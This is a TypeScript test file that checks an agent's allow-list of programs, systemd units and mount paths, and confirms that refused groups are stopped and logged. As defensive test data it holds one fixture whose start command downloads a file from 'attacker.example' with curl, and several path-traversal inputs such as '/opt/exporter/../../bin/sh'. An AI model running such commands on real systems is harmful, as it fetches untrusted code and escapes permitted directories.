import { describe, expect, it } from "vitest";
import { Agent } from "../../../lib/agent/agent.js";
import type { ResourceDriver } from "../../../lib/agent/edges.js";
import { mountAllowed, programAllowed, unitAllowed, type AllowList } from "../../../lib/core/agent/allow-list.js";
import { parseAnswer } from "../../../lib/core/agent/answer-check.js";
import type { AgentResourceSpec } from "../../../lib/core/agent/spec.js";
import { BOOT, FakeDrivers, FakeLog, FakeTime, FakeTransport, fakePorts } from "./fakes.js";
import { answerBody, EXPORTER, PG_MOUNT, PG_SPECS, POSTGRES, REPORTS, wireGroup, type WireGroup } from "./fixture.js";

/** Allows the example's programs (/opt/exporter/), units (postgresql.service, reports.service) and mount. */
const ALLOWED: AllowList = {
  programs: ["/opt/exporter/", "/usr/local/bin/check-pg"],
  units: ["postgresql.service", "report?.service"],
  mounts: ["/var/lib/postgresql", "/srv/"],
};

describe("programAllowed", () => {
  it.each([
    ["/usr/local/bin/check-pg", true],
    ["/opt/exporter/start.sh", true],
    ["/opt/exporter/bin/deep/start.sh", true],
    // The entry without '/' is one program; with '/' a directory, never a name prefix.
    ["/usr/local/bin/check-pg2", false],
    ["/usr/local/bin/check-pg/x", false],
    ["/opt/exporterx/start.sh", false],
    ["/opt/exporter", false],
    ["/opt/exporter/", false],
    // No way out of a directory by the path's text.
    ["/opt/exporter/../../bin/sh", false],
    ["/opt/exporter/./start.sh", false],
    ["/opt/exporter//start.sh", false],
    ["opt/exporter/start.sh", false],
    ["/bin/sh", false],
  ])("%s: %s", (program, allowed) => {
    // Act
    const result = programAllowed(ALLOWED, program);
    // Assess
    expect(result).toBe(allowed);
  });
});

describe("mountAllowed", () => {
  it.each([
    ["/var/lib/postgresql", true],
    ["/srv/data", true],
    ["/var/lib/postgresql/sub", false],
    ["/var/lib", false],
    ["/srv", false],
    ["/srv/../etc", false],
    ["/etc", false],
  ])("%s: %s", (path, allowed) => {
    // Act
    const result = mountAllowed(ALLOWED, path);
    // Assess
    expect(result).toBe(allowed);
  });
});

describe("unitAllowed", () => {
  it.each([
    ["postgresql.service", true],
    ["reports.service", true],
    ["postgresqlXservice", false],
    ["postgresql.service.d", false],
    ["report.service", false],
    ["reportss.service", false],
    ["rescue.target", false],
  ])("%s: %s", (unit, allowed) => {
    // Act
    const result = unitAllowed(ALLOWED, unit);
    // Assess
    expect(result).toBe(allowed);
  });

  it("takes '*' for any characters, none too", () => {
    // Prepare
    const list: AllowList = { programs: [], units: ["app@*.service"], mounts: [] };
    // Act
    const results = ["app@.service", "app@blue.service", "app.service", "app@x.socket"].map((u) =>
      unitAllowed(list, u),
    );
    // Assess
    expect(results).toEqual([true, true, false, false]);
  });
});

const SENT = { nodeId: "db-a", bootId: BOOT, seq: 42 };
const EVIL = { ...EXPORTER, start: ["/usr/bin/curl", "-o", "/tmp/x", "https://attacker.example/x"] };

describe("parseAnswer with an allow-list", () => {
  it("refuses the group that names a program outside it, and accepts the rest of the answer", () => {
    // Prepare
    const body = answerBody(SENT, [
      wireGroup("postgres", [PG_SPECS[0]!, POSTGRES, EVIL], "db-a", 3),
      wireGroup("reports", [REPORTS], "db-a", 1),
    ]);
    // Act
    const result = parseAnswer(body, { ...SENT, allowList: ALLOWED });
    // Assess
    expect(result.ok).toBe(true);
    if (!result.ok) return;
    expect(result.answer.groups.map((g) => g.id)).toEqual(["reports"]);
    expect(result.refusedGroups).toEqual([
      {
        groupId: "postgres",
        reason: "not-allowed",
        path: "groups[0]",
        message:
          'names what the allow-list in agent.yaml does not allow: agentResources[2].start "/usr/bin/curl" is not in allowedPrograms',
      },
    ]);
  });

  it("refuses a group that names a unit outside it, even one it must keep offline", () => {
    // Prepare: the node does not own the group; a resource seen first is still stopped with the answer's spec.
    const body = answerBody(SENT, [wireGroup("rescue", [{ ...REPORTS, unit: "rescue.target" }], "db-b", 1)]);
    // Act
    const result = parseAnswer(body, { ...SENT, allowList: ALLOWED });
    // Assess
    expect(result.ok && result.refusedGroups.map((g) => [g.groupId, g.message])).toEqual([
      [
        "rescue",
        'names what the allow-list in agent.yaml does not allow: agentResources[0].unit "rescue.target" is not in allowedUnits',
      ],
    ]);
  });

  it("refuses a group that would mount a volume at a path outside it", () => {
    // Prepare
    const body = answerBody(SENT, [wireGroup("postgres", [{ ...PG_MOUNT, path: "/etc" }], "db-a", 3)]);
    // Act
    const result = parseAnswer(body, { ...SENT, allowList: ALLOWED });
    // Assess
    expect(result.ok && result.refusedGroups.map((g) => g.message)).toEqual([
      'names what the allow-list in agent.yaml does not allow: agentResources[0].path "/etc" is not in allowedMounts',
    ]);
  });

  it("refuses nothing without an allow-list, nor when everything is in it", () => {
    // Prepare
    const body = answerBody(SENT, [
      wireGroup("postgres", PG_SPECS, "db-a", 3),
      wireGroup("reports", [REPORTS], "db-a", 1),
    ]);
    // Act
    const without = parseAnswer(
      answerBody(SENT, [wireGroup("postgres", [{ ...EVIL, dependsOn: [] }], "db-a", 3)]),
      SENT,
    );
    const within = parseAnswer(body, { ...SENT, allowList: ALLOWED });
    // Assess
    expect(without.ok && without.refusedGroups).toEqual([]);
    expect(within.ok && within.refusedGroups).toEqual([]);
  });
});

/** The agent on fake time, with the allow-list, recording which program each start and stop ran. */
function world() {
  const time = new FakeTime();
  const transport = new FakeTransport(time);
  const drivers = new FakeDrivers(time);
  const log = new FakeLog();
  const ran: string[] = [];
  const what = (spec: AgentResourceSpec, kind: "start" | "stop") =>
    spec.type === "command" ? spec[kind][0] : spec.type === "systemd" ? spec.unit : spec.path;
  const ports = {
    ...fakePorts(time, transport, drivers, log),
    allowList: ALLOWED,
    drivers: (spec: AgentResourceSpec): ResourceDriver => {
      const driver = drivers.factory(spec);
      return {
        start: (timeoutMs, signal) => (ran.push(`start ${what(spec, "start")}`), driver.start(timeoutMs, signal)),
        stop: (timeoutMs, signal) => (ran.push(`stop ${what(spec, "stop")}`), driver.stop(timeoutMs, signal)),
        check: (timeoutMs) => driver.check(timeoutMs),
      };
    },
  };
  const agent = new Agent("db-a", ports);
  return { time, transport, drivers, log, agent, ran };
}

describe("Agent with an allow-list", () => {
  it("starts nothing of a group naming a program outside it, logs that once, and runs the other groups", async () => {
    // Prepare
    const { time, transport, drivers, log, agent, ran } = world();
    const groups: WireGroup[] = [
      wireGroup("postgres", [PG_SPECS[0]!, POSTGRES, EVIL], "db-a", 3),
      wireGroup("reports", [REPORTS], "db-a", 1),
    ];
    transport.answerer = (body) => ({ status: 200, body: answerBody(body, groups) });
    // Act
    agent.start();
    await time.advance(30_000);
    // Assess: 15 heartbeats, one error line.
    expect(ran).toEqual(["start reports.service"]);
    expect([...drivers.running]).toEqual(["reports"]);
    expect(transport.sent.length).toBeGreaterThanOrEqual(15);
    const refusals = log.lines.filter((line) => line.message.startsWith("refused group postgres"));
    expect(refusals).toEqual([
      {
        level: "error",
        message:
          'refused group postgres in the answer to heartbeat 1: groups[0] names what the allow-list in agent.yaml does not allow: agentResources[2].start "/usr/bin/curl" is not in allowedPrograms; ' +
          "nothing of it starts here and whatever of it runs is stopped, the rest of the answer counts (logged again only if this changes)",
      },
    ]);
  });

  it("stops a running group at once, with the programs it was started with, when its answer names a program outside it", async () => {
    // Prepare: postgres runs under allowed specs; at 5 s answers name another start program for the exporter.
    const { time, transport, drivers, agent, ran } = world();
    let exporter: AgentResourceSpec = EXPORTER;
    transport.answerer = (body) => ({
      status: 200,
      body: answerBody(body, [wireGroup("postgres", [PG_SPECS[0]!, POSTGRES, exporter], "db-a", 3)]),
    });
    agent.start();
    await time.advance(5_000);
    expect([...drivers.running].sort()).toEqual(["exporter", "pg-mount", "postgres"]);
    // Act
    exporter = EVIL;
    await time.advance(1_000 + 2_000);
    // Assess: the refused answer came at 6 s; three stops of 100 ms each end well before 9 s, and the
    // lease (10 s from the last accepted heartbeat, sent at 4 s) would only end at 14 s.
    expect([...drivers.running]).toEqual([]);
    expect(ran.slice(-3)).toEqual([
      "stop /opt/exporter/stop.sh",
      "stop postgresql.service",
      "stop /var/lib/postgresql",
    ]);
    expect(ran.some((entry) => entry.includes("/usr/bin/curl"))).toBe(false);
  });
});
